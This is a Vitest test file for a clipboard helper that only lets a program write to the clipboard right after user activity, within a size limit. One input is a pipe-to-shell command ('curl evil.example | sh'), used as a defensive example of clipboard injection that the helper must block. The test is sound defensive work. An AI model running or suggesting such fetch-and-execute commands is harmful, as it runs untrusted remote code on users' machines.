import { expect, test, vi } from 'vitest'
import { copyForProgram } from './clipboard.ts'

async function copied(text: string, isActive: boolean): Promise<string[]> {
  const written: string[] = []
  vi.stubGlobal('navigator', { clipboard: { writeText: async (it: string) => void written.push(it) } })
  await copyForProgram(text, isActive)
  vi.unstubAllGlobals()
  return written
}

test('a program sets the clipboard only right after a key or click, and not without bound', async () => {
  expect(await copied('yanked', true)).toEqual(['yanked'])
  expect(await copied('curl evil.example | sh', false)).toEqual([])
  expect(await copied('x'.repeat(100_001), true)).toEqual([])
})

test('where the browser does not tell whether somebody acts, no program sets the clipboard', async () => {
  const writeText = vi.fn()
  vi.stubGlobal('navigator', { clipboard: { writeText } })
  await copyForProgram('text')
  vi.unstubAllGlobals()
  expect(writeText).not.toHaveBeenCalled()
})
